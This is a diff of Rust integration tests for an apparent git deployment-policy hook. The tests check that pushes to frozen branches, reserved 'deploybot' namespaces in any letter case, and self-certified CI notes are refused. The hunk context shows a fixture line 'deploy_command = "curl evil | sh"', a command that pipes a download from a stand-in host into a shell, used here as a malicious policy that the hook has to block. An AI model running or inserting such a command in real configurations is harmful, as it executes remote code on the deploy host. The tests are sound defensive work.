@@ -63,7 +63,12 @@ deploy_command = "curl evil | sh"
 "#;
     commit_policy(&c, "prod", "main", takeover);
     let before = w.server_refs();
-    w.assert_refused(&c, &["push", "origin", "HEAD:refs/heads/prod"], &[], "unknown");
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/prod"],
+        &[],
+        "unknown",
+    );
     w.assert_refused(
         &c,
         &["push", "origin", "HEAD:refs/heads/prod"],
@@ -83,9 +88,17 @@ deploy_command = "curl evil | sh"
     commit_policy(&c, "prod", "main", open);
     c.assert_git_ok(&["push", "origin", "HEAD:refs/heads/prod"], &as_user("bot"));
     let doctor = c.ok(&["doctor", "--json"]);
-    assert!(doctor.contains("names no actors: main's actors keep governing"), "{doctor}");
+    assert!(
+        doctor.contains("names no actors: main's actors keep governing"),
+        "{doctor}"
+    );
     c.commit_file("x.txt", "x\n", "an unidentified push to the base");
-    w.assert_refused(&c, &["push", "origin", "HEAD:refs/heads/prod"], &[], "unknown");
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/prod"],
+        &[],
+        "unknown",
+    );
     commit_policy(&c, "prod", "prod", takeover);
     w.assert_refused(
         &c,
@@ -96,8 +109,17 @@ deploy_command = "curl evil | sh"
     // Changing main's own file (the root, which could point elsewhere)
     // still needs main's coordinator.
     c.git(&["checkout", "-q", "-B", "main", "origin/main"]);
-    c.commit_file(".deploybot.toml", &pointing.replace("prod", "qa"), "repoint");
-    w.assert_refused(&c, &["push", "origin", "main"], &as_user("alice"), "coordinator_actors");
+    c.commit_file(
+        ".deploybot.toml",
+        &pointing.replace("prod", "qa"),
+        "repoint",
+    );
+    w.assert_refused(
+        &c,
+        &["push", "origin", "main"],
+        &as_user("alice"),
+        "coordinator_actors",
+    );
 }
 
 /// High: a broken policy whose coordinator list is spelled in a way a
@@ -125,7 +147,12 @@ fn a_broken_policy_fails_closed_in_every_spelling() {
         std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).expect("chmod");
         c.git(&["pull", "-q", "origin", "main"]);
         c.commit_file(".deploybot.toml", ACTORS, "repair the policy");
-        w.assert_refused(&c, &["push", "origin", "main"], &[], "only a coordinator (bot)");
+        w.assert_refused(
+            &c,
+            &["push", "origin", "main"],
+            &[],
+            "only a coordinator (bot)",
+        );
         w.assert_refused(
             &c,
             &["push", "origin", "main"],
@@ -136,8 +163,7 @@ fn a_broken_policy_fails_closed_in_every_spelling() {
     }
 }
 
-/// `tool` is used by the tests below.
-#[allow(dead_code)]
+/// The tool in `c` as `user`, asserting success; returns stdout.
 fn ok(c: &Clone, user: &str, args: &[&str]) -> String {
     let out = tool(c, user, args);
     assert!(
@@ -146,4 +172,135 @@ fn ok(c: &Clone, user: &str, args: &[&str]) -> String {
         String::from_utf8_lossy(&out.stderr)
     );
     String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// Medium: the base branch is a symbolic ref on the server (main points to
+/// trunk). Its target is judged as the base branch: frozen while paused.
+#[test]
+fn a_base_branch_reached_through_a_symbolic_ref_is_guarded() {
+    let (w, c) = guarded(ACTORS);
+    let main = w.server_ref("refs/heads/main").expect("main");
+    w.server_git(&["update-ref", "refs/heads/trunk", &main]);
+    w.server_git(&["symbolic-ref", "refs/heads/main", "refs/heads/trunk"]);
+    ok(
+        &c,
+        "alice",
+        &["pause", "--reason", "freeze", "--sha", &main],
+    );
+    c.git(&["fetch", "-q", "origin"]);
+    c.git(&["checkout", "-q", "-B", "t", "origin/trunk"]);
+    c.commit_file("t.txt", "t\n", "past the freeze through the target");
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/trunk"],
+        &as_user("alice"),
+        "paused",
+    );
+    // A ledger reached through a symbolic ref is the ledger.
+    w.server_git(&["update-ref", "refs/heads/ledger-copy", &main]);
+    w.server_git(&[
+        "symbolic-ref",
+        "refs/deploybot/queue",
+        "refs/heads/ledger-copy",
+    ]);
+    w.assert_refused(
+        &c,
+        &["push", "origin", "HEAD:refs/heads/ledger-copy"],
+        &as_user("alice"),
+        "deploybot: refs/heads/ledger-copy",
+    );
+}
+
+/// Medium: with `require_tested_base`, only a CI runner certifies a commit:
+/// a coordinator's own success note, pushed with its merge or before it,
+/// is refused, and main does not move.
+#[test]
+fn a_coordinator_cannot_certify_its_own_merge() {
+    let policy = format!("{ACTORS}\n[hook]\nprotect_base = true\nrequire_tested_base = true\n");
+    let (w, c) = guarded(&policy);
+    let bot = w.clone_as("bot");
+    bot.git(&["config", "deploybot.actor", "bot"]);
+    bot.commit_file("untested.txt", "x\n", "an untested change");
+    let sha = bot.git(&["rev-parse", "HEAD"]);
+    bot.git(&[
+        "notes",
+        "--ref=deploybot/ci",
+        "add",
+        "-m",
+        r#"{"check":"CI","status":"success","at":"2026-12-01T00:00:00Z"}"#,
+        &sha,
+    ]);
+    let before = w.server_refs();
+    w.assert_refused(
+        &bot,
+        &[
+            "push",
+            "--atomic",
+            "origin",
+            "main",
+            "refs/notes/deploybot/ci",
+        ],
+        &as_user("bot"),
+        "`bot` may not write CI success results (only queue.ci_runners may)",
+    );
+    assert_eq!(w.server_refs(), before);
+    // Two steps: the commit on a plain branch, then the note alone.
+    bot.assert_git_ok(
+        &["push", "origin", "HEAD:refs/heads/feature/u"],
+        &as_user("bot"),
+    );
+    w.assert_refused(
+        &bot,
+        &["push", "origin", "refs/notes/deploybot/ci"],
+        &as_user("bot"),
+        "may not write CI success results",
+    );
+    // The runner's success certifies it; then the coordinator may land it.
+    bot.assert_git_ok(
+        &["push", "origin", "refs/notes/deploybot/ci"],
+        &as_user("ci"),
+    );
+    bot.assert_git_ok(&["push", "origin", "main"], &as_user("bot"));
+    let _ = c;
+}
+
+/// Medium: the tool's namespaces belong to the tool's roles, in any letter
+/// case: a plain `deploybot` branch (which would block every
+/// `deploybot/...` branch), `deploybot/try`, `deploybot/repair`, another
+/// case of them, even with no identity at all.
+#[test]
+fn the_tools_names_are_reserved_in_any_letter_case() {
+    let (w, c) = guarded(ACTORS);
+    for name in [
+        "refs/heads/deploybot",
+        "refs/heads/deploybot/try",
+        "refs/heads/deploybot/repair",
+        "refs/heads/DeployBot/try/x",
+        "refs/heads/deploybot/repair/not-a-sha",
+        "refs/notes/DEPLOYBOT/ci",
+    ] {
+        for env in [&[][..], &as_user("alice")[..], &as_user("bot")[..]] {
+            w.assert_refused(
+                &c,
+                &["push", "origin", &format!("HEAD:{name}")],
+                env,
+                "deploybot's namespace",
+            );
+        }
+    }
+    // A reserved name that got there (an older server) is a coordinator's to clear.
+    let main = w.server_ref("refs/heads/main").expect("main");
+    w.server_git(&["update-ref", "refs/heads/Deploybot", &main]);
+    w.assert_refused(
+        &c,
+        &["push", "origin", ":refs/heads/Deploybot"],
+        &as_user("alice"),
+        "coordinator_actors",
+    );
+    c.assert_git_ok(
+        &["push", "origin", ":refs/heads/Deploybot"],
+        &as_user("bot"),
+    );
+    // Names that only look alike are not the tool's.
+    c.assert_git_ok(&["push", "origin", "HEAD:refs/heads/deploybot-docs"], &[]);
 }
